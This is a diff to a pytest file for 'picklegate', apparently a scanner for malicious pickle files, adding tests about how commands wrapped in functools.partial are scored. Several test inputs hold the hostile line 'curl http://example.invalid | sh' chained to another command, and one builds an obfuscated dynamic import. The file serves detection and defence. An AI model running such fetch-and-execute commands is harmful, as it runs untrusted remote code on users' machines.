@@ -8,7 +8,7 @@ import pytest
 
 from hostile_parts import COMMAND, SOURCE, call, written
 from picklegate import Verdict, scan_bytes
-from picklegate.training.tree import Call, Name
+from picklegate.training.tree import Build, Call, Name
 
 
 def _score(tree: Any) -> float:
@@ -28,7 +28,7 @@ def test_a_container_of_commands_is_seen_by_whom_it_is_given(maker: str) -> None
     """A command in a list is judged where it is handed on, also when a call makes the list."""
     bare = _score(call("package.tools", "run_command", [f"curl http://example.invalid | sh; {COMMAND}"]))
     made = call("builtins", maker, [f"curl http://example.invalid | sh; {COMMAND}"])
-    assert _score(call("package.tools", "run_command", made)) >= bare > 0.5
+    assert min(bare, _score(call("package.tools", "run_command", made))) > 0.9
 
 
 def _column(text: bytes) -> Any:
@@ -71,3 +71,16 @@ def test_a_changed_buffer_is_not_known() -> None:
     name = call("builtins", "bytes", call("pyarrow.lib", "py_buffer", bytearray(b"math")))
     made = call("builtins", "getattr", call("importlib", "import_module", call("codecs", "decode", name)), "sqrt")
     assert scan_bytes(written(made, 5)).verdict > Verdict.CLEAN
+
+
+def _partial(text: str) -> Any:
+    function = Name("package.tools", "run_command")
+    return Build(call("functools", "partial", function), (function, (), {"command": text}, None))
+
+
+def test_what_a_partial_holds_counts_where_it_is_called_or_given() -> None:
+    """A text by keyword is data as long as nobody gets it."""
+    command = f"curl http://example.invalid | sh; {COMMAND}"
+    assert scan_bytes(written(_partial(r"(?u)\b\w[\w\-]+\b"), 4)).verdict == Verdict.CLEAN
+    assert _score(Call(_partial(command), ())) > 0.9
+    assert _score(call("package.tools", "apply", _partial(command))) > 0.5
